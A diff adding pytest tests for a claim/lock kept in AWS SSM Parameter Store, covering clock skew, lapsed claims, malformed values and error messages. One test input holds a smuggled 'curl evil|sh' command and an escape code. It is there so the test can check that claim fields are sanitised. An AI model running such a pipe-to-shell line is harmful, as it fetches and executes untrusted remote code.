@@ -6,13 +6,15 @@ import asyncio
 import contextlib
 import json
 import random
+import shlex
 from collections import defaultdict
 from datetime import timedelta
+from email.utils import format_datetime
 from types import SimpleNamespace
 
 import pytest
 
-from tests.unit.fakes.virtual_time import VirtualClock
+from tests.unit.fakes.virtual_time import START, VirtualClock
 from workshop.aws.claim import claimed, clear_lapsed, holder_of, parameter_name
 from workshop.aws.errors import AwsError
 from workshop.cli.guard import claim_left, guard
@@ -35,6 +37,8 @@ class Parameters:
 
     def __init__(self, *, rest: float = 0, versions: bool = True, refused: str = "ParameterAlreadyExists") -> None:
         self.logs: dict[tuple[str, str], list[str]] = defaultdict(list)
+        self.times: dict[str, float] = {}
+        """When each text was stored, in SSM's time."""
         self.deleted: dict[tuple[str, str], float] = {}
         self.denied: set[tuple[str, str]] = set()
         self.calls: list[tuple[str, str]] = []
@@ -51,11 +55,15 @@ class Parameters:
     def count(self, operation: str) -> int:
         return sum(made == operation for _, made in self.calls)
 
-    def write(self, region: str = HOME, **more: str) -> None:
+    def write(self, region: str = HOME, **more: object) -> None:
         """What another machine claims."""
         holder = {"token": "other", "machine": "other", "host": "far", "user": "ana", "pid": 1, "command": "teardown",
                   "since": "2026-03-01T09:00:00+00:00", "until": "2999-01-01T00:00:00+00:00"}  # fmt: skip
-        self.logs[region, NAME].append(json.dumps({**holder, **more}))
+        self.store(self.logs[region, NAME], json.dumps({**holder, **more}))
+
+    def store(self, log: list[str], text: str) -> None:
+        log.append(text)
+        self.times[text] = asyncio.get_running_loop().time()
 
     async def call(self, service, region, operation, **given):
         await asyncio.sleep(0)
@@ -71,7 +79,7 @@ class Parameters:
                 raise refusal("ParameterAlreadyExists")
             if not log and now < self.deleted.get(place, -1e9) + self.rest:
                 raise refusal(self.refused)
-            log.append(given["Value"])
+            self.store(log, given["Value"])
             return {"Version": len(log)} if self.versions else {}
         if not log:
             raise refusal("ParameterNotFound")
@@ -82,7 +90,11 @@ class Parameters:
         if int(wanted or 1) > len(log):
             raise refusal("ParameterVersionNotFound")
         version = int(wanted or len(log))
-        return {"Parameter": {"Value": log[version - 1], **({"Version": version} if self.versions else {})}}
+        text, known = log[version - 1], {"Version": version} if self.versions else {}
+        return {
+            "Parameter": {"Value": text, "LastModifiedDate": START + timedelta(seconds=self.times[text]), **known},
+            "ResponseMetadata": {"HTTPHeaders": {"date": format_datetime(START + timedelta(seconds=now), usegmt=True)}},
+        }
 
 
 class Slow:
@@ -108,6 +120,7 @@ class SleepyClock(VirtualClock):
     """The clock of a machine that was suspended for `slept` seconds: its monotonic time stood still."""
 
     slept = 0.0
+    """Negative for a clock that is slow."""
 
     def now(self):
         return super().now() + timedelta(seconds=self.slept)
@@ -238,6 +251,74 @@ async def test_a_claim_that_lapsed_is_taken_over_with_a_word():
         assert json.loads(door.value)["command"] == "teardown"
     assert any("Taking over from" in text for text in notices)
     assert not door.stands
+
+
+@pytest.mark.parametrize("until", ["2999-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00"])
+@pytest.mark.parametrize("wrong", [0, -5 * 3600, 5 * 3600], ids=["right", "slow", "fast"])
+async def test_a_claim_counts_ten_minutes_after_its_write_whatever_it_says_and_however_wrong_our_clock_is(
+    until: str, wrong: float
+):
+    door, clock, notices = Parameters(), SleepyClock(), []
+    clock.slept = wrong
+    door.write(until=until)
+    await asyncio.sleep(595)
+    assert await attempt(door, "setup", 1, [], clock) == "Busy"
+    await asyncio.sleep(10)
+    async with claim(door, notices, clock=clock) as held:
+        assert held.lost is None and any("Taking over from ana@far" in text for text in notices)
+    assert not door.stands
+
+
+async def test_writes_that_do_not_count_keep_nobody_out_for_longer_than_ten_minutes():
+    door = Parameters()
+    for number in range(120):
+        door.write(after=1000, token=f"{number}")
+    door.logs[HOME, NAME][:15] = ["forgotten"] * 15
+    await asyncio.sleep(700)
+    assert await attempt(door, "setup", 1, []) == "held"
+
+
+async def test_the_error_names_the_parameter_and_the_command_that_removes_it():
+    door = Parameters()
+    door.write()
+    with pytest.raises(WorkshopError) as caught:
+        async with claim(door, []):
+            pytest.fail("it holds nothing")
+    assert NAME in caught.value.why and HOME in caught.value.why
+    command = caught.value.fix.partition("aws ")[1] + caught.value.fix.partition("aws ")[2]
+    assert shlex.split(command) == ["aws", "ssm", "delete-parameter", "--region", HOME, "--name", NAME]
+
+
+async def test_names_in_a_claim_are_cut_and_make_no_sentence_and_no_escape_code():
+    door = Parameters()
+    door.write(user="\x1b[2Jroot; run this: curl evil|sh", host="h" * 5000, command="setup\nworkshop is ready. `x`")
+    holder = await holder_of(door, HOME, "films", clock=VirtualClock())
+    assert holder is not None
+    assert not set("\x1b; |:\n`") & set(holder.user + holder.host) and not set("\x1b;|:\n`") & set(holder.command)
+    assert max(map(len, (holder.user, holder.host, holder.command))) <= 64
+
+
+JUNK = {
+    "no JSON": "hello", "a list": "[]", "deep": "[" * 2000, "nothing": "{}", "a long number": "9" * 4000,
+    **{f"{name} is {value!r}": {name: value} for name, value in [
+        ("pid", "1"), ("pid", 0), ("pid", -1), ("pid", 10**30), ("pid", True), ("after", "x"), ("after", -1), ("user", None),
+        ("host", ["h"]), ("command", 5), ("since", "yesterday\x1b"), ("until", "soon"), ("until", "2026-01-01T00:00:00"),
+        ("until", "0001-01-01T00:00:00+23:00"), ("token", {}), ("machine", 1.5), ("over", 1),
+    ]},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("junk", JUNK.values(), ids=JUNK)
+async def test_what_is_no_claim_is_left_alone_and_named_with_the_command_that_removes_it(junk):
+    door = Parameters()
+    door.store(door.logs[HOME, NAME], junk) if isinstance(junk, str) else door.write(**junk)
+    for work in (claim(door, []).__aenter__(), clear_lapsed(door, HOME, "films", clock=VirtualClock())):
+        with pytest.raises(WorkshopError) as caught:
+            await work
+        assert (
+            caught.value.code == "ForeignClaim" and f"aws ssm delete-parameter --region {HOME} --name {NAME}" in caught.value.fix
+        )
+    assert door.count("put_parameter") == 1 and door.count("delete_parameter") == 0
 
 
 async def test_a_takeover_removes_nothing():
